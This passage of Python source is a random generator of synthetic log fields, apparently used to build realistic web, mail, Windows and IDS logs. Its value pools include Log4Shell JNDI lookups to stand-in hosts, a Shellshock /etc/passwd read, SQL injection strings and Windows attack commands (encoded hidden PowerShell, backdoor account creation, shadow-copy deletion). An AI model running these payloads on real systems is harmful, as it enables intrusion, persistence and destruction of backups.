            f"{base}-{r.randrange(1, 40)}.el{r.randrange(7, 10)}{self.pick(('', '_2', '_4.1'))}",
            f"{base}-{r.randrange(1, 9)}.fc{r.randrange(36, 42)}",
            f"{base}-r{r.randrange(0, 9)}",
            base,
        ))

    def package_arch(self) -> str:
        return self.pick(("amd64", "amd64", "all", "arm64", "i386", "x86_64", "noarch", "aarch64", "armhf"))

    def signature_id(self) -> str:
        return str(self.rng.randrange(2000000, 2050000))

    def windows_user(self) -> str:
        return self.pick(("Administrator", "admin", "Guest", "svc_backup", "jdoe", "ADMINISTRATOR",
                          "user", "test", "scanner", "sql_svc", "helpdesk")) if self.chance(0.6) else self.plain_user()

    def workstation(self) -> str:
        return self.pick(("WIN-" + self.alnum(11).upper(), "DESKTOP-" + self.alnum(7).upper(),
                          "-", "kali", "NMAP", self.short_host().upper()))

    def domain(self) -> str:
        return self.pick(("CORP", "WORKGROUP", "ACME", "CONTOSO", "-", "NT AUTHORITY", "LAB"))

    def logon_type(self) -> str:
        return self.pick(("2", "3", "3", "3", "7", "10", "10", "5", "8", "11"))

    def status_code_hex(self) -> str:
        return self.pick(("0xc000006d", "0xc000006a", "0xc0000064", "0xc0000234", "0xc0000072",
                          "0xc000006f", "0xc0000071", "0xc0000193"))

    def signal(self) -> str:
        return self.pick(("SEGV", "ABRT", "KILL", "TERM", "BUS", "ILL", "FPE"))

    def exit_code(self) -> str:
        return self.pick(("1", "1", "2", "127", "126", "137", "139", "255", "3"))

    def cve(self) -> str:
        return f"CVE-{self.rng.randrange(2014, 2026)}-{self.rng.randrange(1000, 50000)}"

    def jail(self) -> str:
        return self.pick(("sshd", "nginx-http-auth", "postfix-sasl", "dovecot", "recidive", "apache-auth",
                          "nginx-limit-req", "wordpress", "exim", "vsftpd", "nginx-botsearch"))

    def level(self) -> str:
        return self.pick(("INFO", "WARN", "ERROR", "DEBUG", "NOTICE", "WARNING"))

    def java_class(self) -> str:
        return self.pick(("com.acme.api.UserController", "org.springframework.web.servlet.DispatcherServlet",
                          "org.hibernate.SQL", "io.netty.channel.DefaultChannelPipeline",
                          "org.apache.catalina.core.StandardWrapperValve", "com.zaxxer.hikari.HikariPool",
                          "org.eclipse.jetty.server.Server", "c.a.billing.InvoiceService"))

    def thread(self) -> str:
        return self.pick(("main", "http-nio-8080-exec-" + str(self.rng.randrange(1, 200)),
                          "pool-1-thread-" + str(self.rng.randrange(1, 64)), "scheduling-1",
                          "ForkJoinPool.commonPool-worker-3", "reactor-http-epoll-2", "Timer-0"))

    def tls_version(self) -> str:
        return self.pick(("TLSv1.2", "TLSv1.3", "TLSv1", "SSLv3"))

    def cipher(self) -> str:
        return self.pick(("ECDHE-RSA-AES256-GCM-SHA384", "TLS_AES_256_GCM_SHA384",
                          "TLS_CHACHA20_POLY1305_SHA256", "ECDHE-RSA-AES128-GCM-SHA256"))

    def sasl_mech(self) -> str:
        return self.pick(("LOGIN", "PLAIN", "CRAM-MD5", "DIGEST-MD5"))

    def kex_alg(self) -> str:
        return self.pick(("curve25519-sha256,curve25519-sha256@libssh.org,diffie-hellman-group14-sha256",
                          "diffie-hellman-group1-sha1,diffie-hellman-group14-sha1",
                          "sntrup761x25519-sha512@openssh.com,curve25519-sha256",
                          "ssh-rsa,ssh-dss", "aes128-cbc,3des-cbc"))

    def ntp_offset(self) -> str:
        return f"{self.rng.choice(('+', '-'))}{self.rng.uniform(0, 2):.6f}"

    def mem_kb(self) -> str:
        return str(self.rng.randrange(1000, 16_000_000))

    def addr_hex(self) -> str:
        return self.hexstr(self.pick((12, 16))).lstrip("0") or "0"

    def word(self) -> str:
        return self.pick(WORDS)

    def node(self) -> str:
        return f"{self.pick(('node', 'worker', 'k8s', 'kube'))}-{self.rng.randrange(1, 30)}"

    # ---- timestamps found inside bodies ---------------------------------------------
    def _parts(self) -> tuple[int, int, int, int, int, int]:
        r = self.rng
        return (r.randrange(2015, 2027), r.randrange(1, 13), r.randrange(1, 29),
                r.randrange(24), r.randrange(60), r.randrange(60))

    def ts_iso(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        frac = self.pick(("", f".{self.digits(3)}", f".{self.digits(6)}"))
        tz = self.pick(("Z", "+00:00", "+01:00", "-05:00", "", "+0200"))
        sep = self.pick(("T", "T", " "))
        return f"{y:04d}-{mo:02d}-{d:02d}{sep}{h:02d}:{mi:02d}:{s:02d}{frac}{tz}"

    def ts_clf(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        tz = self.pick(("+0000", "+0100", "-0700", "+0200", "+0530"))
        return f"{d:02d}/{_MONTHS[mo - 1]}/{y:04d}:{h:02d}:{mi:02d}:{s:02d} {tz}"

    def ts_slash(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{y:04d}/{mo:02d}/{d:02d} {h:02d}:{mi:02d}:{s:02d}"

    def ts_apache_error(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        wd = self.pick(_DAYS)
        frac = f".{self.digits(6)}" if self.chance(0.7) else ""
        return f"{wd} {_MONTHS[mo - 1]} {d:02d} {h:02d}:{mi:02d}:{s:02d}{frac} {y:04d}"

    def ts_syslog(self) -> str:
        _, mo, d, h, mi, s = self._parts()
        return f"{_MONTHS[mo - 1]} {d:2d} {h:02d}:{mi:02d}:{s:02d}"

    def ts_epoch(self) -> str:
        return f"{self.rng.randrange(1_450_000_000, 1_800_000_000)}.{self.digits(3)}"

    def ts_comma(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{y:04d}-{mo:02d}-{d:02d} {h:02d}:{mi:02d}:{s:02d},{self.digits(3)}"

    def ts_mysql(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{y:04d}-{mo:02d}-{d:02d}T{h:02d}:{mi:02d}:{s:02d}.{self.digits(6)}Z"

    def ts_pg(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{y:04d}-{mo:02d}-{d:02d} {h:02d}:{mi:02d}:{s:02d}.{self.digits(3)} {self.pick(('UTC', 'CET', 'EST'))}"

    def ts_squid(self) -> str:
        return f"{self.rng.randrange(1_450_000_000, 1_800_000_000)}.{self.digits(3)}"

    def ts_windows(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{mo:02d}/{d:02d}/{y:04d} {h % 12 + 1:02d}:{mi:02d}:{s:02d} {self.pick(('AM', 'PM'))}"

    # ---- web extras ----------------------------------------------------------------
    def referer(self) -> str:
        return "-" if self.chance(0.6) else self.full_url()

    def attacker_agent(self) -> str:
        return self.pick(("sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.0 zgrab/0.x",
                          "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                          "WPScan v3.8.25 (https://wpscan.com/)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
                          "${jndi:ldap://203.0.113.44/ua}", "Fuzz Faster U Fool v2.1.0", "gobuster/3.6",
                          "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                          "l9explore/1.2.2", "() { :; }; echo; /bin/cat /etc/passwd"))

    def jndi(self) -> str:
        return self.pick(("${jndi:ldap://203.0.113.44:1389/a}", "${jndi:rmi://198.51.100.7/x}",
                          "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}",
                          "${jndi:dns://${hostName}.c1234.interact.sh}"))

    def binary_request(self) -> str:
        return self.pick(("\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03",
                          "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
                          "-", "SSH-2.0-Go", "\\x00\\x00\\x00TZ\\x00\\x00\\x00", "MGLNDD_203.0.113.9_443",
                          "GET /cgi-bin/../../../../bin/sh", "t3 12.2.1", "\\x16\\x03\\x01\\x02\\x00\\x01",
                          "PRI * HTTP/2.0", "GET / HTTP/1.1 \\x00", ""))

    def htpasswd(self) -> str:
        return self.pick(("/etc/nginx/.htpasswd", "/var/www/.htpasswd", "/etc/apache2/.htpasswd",
                          "/etc/nginx/conf.d/admin.htpasswd", "/srv/www/protected/.htpasswd"))

    def zone(self) -> str:
        return self.pick(("one", "req_limit", "login", "api", "perip", "addr", "mylimit", "flood"))

    def web_root(self) -> str:
        return self.pick(("/var/www/html", "/usr/share/nginx/html", "/srv/www/htdocs", "/var/www",
                          "/home/site/public_html"))

    def attack_path(self) -> str:
        return self.pick(tuple(p for p in ATTACK_PATHS if "?" not in p))

    def attack_file(self) -> str:
        """A web root joined with a probed path; `last_request_path` repeats the path."""
        self._last_path = self.attack_path()
        return self.web_root() + self._last_path

    def benign_file(self) -> str:
        self._last_path = self.benign_path()
        return self.web_root() + self._last_path

    def last_request_path(self) -> str:
        return self._last_path

    def proxy_connect(self) -> str:
        """The target of a CONNECT abusing the server as an open proxy."""
        return self.pick((f"{self.hostname()}:443", f"{self.ipv4()}:{self.service_port()}"))

    def proxy_url(self) -> str:
        """An absolute URL requested from a server that is no proxy."""
        return self.pick((f"http://{self.hostname()}/", f"http://{self.ipv4()}:{self.port()}/azenv.php",
                          f"http://{self.hostname()}/proxy-check?id={self.digits(6)}"))

    def benign_path(self) -> str:
        return self.pick(("/favicon.ico", "/robots.txt", "/apple-touch-icon.png", "/images/logo.png",
                          "/css/old.css", "/blog/2019/post.html", "/sitemap.xml", "/ads.txt"))

    def module(self) -> str:
        return self.pick(("auth_basic", "core", "authz_core", "auth_digest", "cgi", "php7", "proxy_fcgi",
                          "security2", "ssl", "authn_file"))

    def flow_id(self) -> str:
        return str(self.rng.randrange(10**14, 10**16))

    def digits_12(self) -> str:
        return self.digits(12)

    def alnum_26(self) -> str:
        return self.alnum(26)

    def session_short(self) -> str:
        return self.hexstr(8)

    def crs_file(self) -> str:
        return self.pick(("REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "REQUEST-941-APPLICATION-ATTACK-XSS.conf",
                          "REQUEST-930-APPLICATION-ATTACK-LFI.conf", "REQUEST-932-APPLICATION-ATTACK-RCE.conf",
                          "REQUEST-913-SCANNER-DETECTION.conf", "REQUEST-949-BLOCKING-EVALUATION.conf"))

    def crs_id(self) -> str:
        return self.pick(("942100", "941100", "930100", "932100", "913100", "949110", "942260", "920350"))

    def crs_msg(self) -> str:
        return self.pick(("SQL Injection Attack Detected via libinjection", "XSS Attack Detected via libinjection",
                          "Path Traversal Attack (/../)", "Remote Command Execution: Unix Shell Code Found",
                          "Found User-Agent associated with security scanner",
                          "Inbound Anomaly Score Exceeded (Total Score: 15)", "Host header is a numeric IP address"))

    def crs_data(self) -> str:
        return self.pick(("1' or '1'='1", "<script>", "../", ";cat /etc/passwd", "union select", "nikto"))

    def ts_haproxy(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{d:02d}/{_MONTHS[mo - 1]}/{y:04d}:{h:02d}:{mi:02d}:{s:02d}.{self.digits(3)}"

    def ts_roundcube(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{d:02d}-{_MONTHS[mo - 1]}-{y:04d} {h:02d}:{mi:02d}:{s:02d} {self.pick(('+0000', '+0100', 'UTC'))}"

    def iis_path(self) -> str:
        return self.url_path().split("?", 1)[0]

    def iis_query(self) -> str:
        return "&".join(f"{self.pick(QUERY_KEYS)}={self.alnum(self.rng.randrange(1, 9))}"
                        for _ in range(self.rng.randrange(1, 3)))

    def iis_attack_path(self) -> str:
        return self.attack_path().replace(" ", "+")

    def iis_attack_query(self) -> str:
        return self.pick(ATTACK_QUERIES).replace(" ", "+")

    def iis_agent(self) -> str:
        """User agents as IIS writes them (spaces become '+')."""
        return self.user_agent().replace(" ", "+")

    def frontend(self) -> str:
        return self.pick(("http-in", "https-in", "fe_main", "www", "public", "ft_web", "api_front"))

    def backend(self) -> str:
        return self.pick(("app", "be_web", "servers", "api_back", "static", "bk_app", "default_backend"))

    # ---- mail, network, system extras -----------------------------------------------
    def helo(self) -> str:
        return self.pick((self.hostname(), self.short_host(), f"[{self.ipv4()}]", "User", "localhost",
                          "ylmf-pc", "WIN-" + self.alnum(11).upper(), self.pick(DOMAIN_WORDS) + ".com"))

    def dovecot_session(self) -> str:
        return self.alnum(16)

    def ts_exim(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{y:04d}-{mo:02d}-{d:02d} {h:02d}:{mi:02d}:{s:02d}"

    def sendmail_id(self) -> str:
        return f"{self.alnum(6)}{self.digits(6)}"

    def uptime(self) -> str:
        return f"{self.rng.randrange(0, 9_999_999)}.{self.digits(6)}"

    def hexstr2(self) -> str:
        return self.hexstr(2)

    def alnum_5(self) -> str:
        return self.alnum(5).lower()

    def ts_suricata(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{mo:02d}/{d:02d}/{y:04d}-{h:02d}:{mi:02d}:{s:02d}.{self.digits(6)}"

    def et_signature(self) -> str:
        return self.pick(("ET SCAN Suspicious inbound to MSSQL port 1433", "ET SCAN NMAP -sS window 1024",
                          "ET DROP Dshield Block Listed Source group 1", "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
                          "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "ET SCAN Potential SSH Scan OUTBOUND",
                          "ET POLICY Suspicious inbound to PostgreSQL port 5432", "GPL ATTACK_RESPONSE id check returned root",
                          "ET COMPROMISED Known Compromised or Hostile Host Traffic group 12",
                          "ET WEB_SPECIFIC_APPS WordPress xmlrpc.php brute force", "ET CINS Active Threat Intelligence Poor Reputation IP group 45",
                          "SURICATA HTTP invalid response chunk len", "ET SCAN Zmap User-Agent (Inbound)"))

    def classification(self) -> str:
        return self.pick(("Attempted Administrator Privilege Gain", "Potentially Bad Traffic",
                          "Attempted Information Leak", "Misc Attack", "Web Application Attack",
                          "Detection of a Network Scan", "A Network Trojan was detected", "Generic Protocol Command Decode"))

    def klog_level(self) -> str:
        return self.pick(("I", "I", "W", "E"))

    def klog_ts(self) -> str:
        _, mo, d, h, mi, s = self._parts()
        return f"{mo:02d}{d:02d} {h:02d}:{mi:02d}:{s:02d}.{self.digits(6)}"

    def unit_description(self) -> str:
        return self.pick(("The nginx HTTP and reverse proxy server", "OpenBSD Secure Shell server",
                          "Docker Application Container Engine", "Regular background program processing daemon",
                          "Daily apt download activities", "Rotate log files", "Fail2Ban Service",
                          "PostgreSQL RDBMS", "MySQL Community Server", "Postfix Mail Transport Agent",
                          "Daily Cleanup of Temporary Directories", "Network Time Synchronization",
                          "A high performance web server and a reverse proxy server", "User Login Management",
                          "Certbot", "Message of the Day", "Cleanup of Temporary Directories", "Kubernetes Kubelet",
                          "Clam AntiVirus userspace daemon", "LSB: Apache2 web server", "Grafana instance"))

    def ts_redis(self) -> str:
        _, mo, d, h, mi, s = self._parts()
        return f"{d:02d} {_MONTHS[mo - 1]} {self.rng.randrange(2015, 2027)} {h:02d}:{mi:02d}:{s:02d}.{self.digits(3)}"

    def ts_xrdp(self) -> str:
        y, mo, d, h, mi, s = self._parts()
        return f"{y:04d}{mo:02d}{d:02d}-{h:02d}:{mi:02d}:{s:02d}"

    def win_exe(self) -> str:
        return self.pick(("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                          "C:\\Users\\Public\\svch0st.exe", "C:\\Windows\\Temp\\" + self.alnum(6) + ".exe",
                          "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "C:\\Windows\\System32\\rundll32.exe"))

    def win_cmd(self) -> str:
        return self.pick(("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "cmd.exe /c whoami /all",
                          "net user backdoor P@ssw0rd /add", "rundll32.exe C:\\Windows\\Temp\\x.dll,Start",
                          "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\"", "vssadmin delete shadows /all /quiet",
                          "schtasks /create /tn upd /tr C:\\Users\\Public\\u.exe /sc minute"))

    # ---- security vocabularies (compositional, see attack_vocab) ---------------------
    def probe_url(self) -> str:
        """A request target that probes or attacks (scanner path, traversal, injection...)."""
        return attack_vocab.probe_path(self.rng)

    def ordinary_url(self) -> str:
        return attack_vocab.ordinary_path(self.rng)

    def offensive_agent(self) -> str:
        return attack_vocab.offensive_agent(self.rng)

    def browser_agent(self) -> str:
        return attack_vocab.browser_agent(self.rng)

    def ids_signature(self) -> str:
        return attack_vocab.signature(self.rng)

    def ids_class(self) -> str:
        return self.pick(attack_vocab.CLASSIFICATIONS)

    def ids_proto(self) -> str:
        return attack_vocab.ids_proto(self.rng)

    def sid(self) -> str:
        return str(self.rng.randrange(1000, 3_000_000))

    def blocklist(self) -> str:
        return self.pick(attack_vocab.BLOCKLISTS)

    def country(self) -> str:
        return self.pick(attack_vocab.COUNTRIES)

    def rule_name(self) -> str:
        return self.pick(("INPUT", "FORWARD", "default-deny", "block-inbound", "WAN_IN", "drop-all",
                          "rule" + self.digits(2), "deny_ssh", "geo-block", "policy " + self.digits(1),
                          "LAN_LOCAL", "implicit deny", "ACL-" + self.digits(3), "zone-wan"))

    def fw_action(self) -> str:
        return self.pick(("DROP", "DENY", "BLOCK", "REJECT", "drop", "deny", "block", "reject", "denied",
                          "dropped", "blocked", "rejected", "Deny", "Drop"))

    def generator(self, name: str) -> Callable[[], str]:
        """The bound generator method called `name` (raises AttributeError when unknown)."""
        fn = getattr(self, name)
        if name.startswith("_") or not callable(fn):
            raise AttributeError(name)
        return fn  # type: ignore[no-any-return]
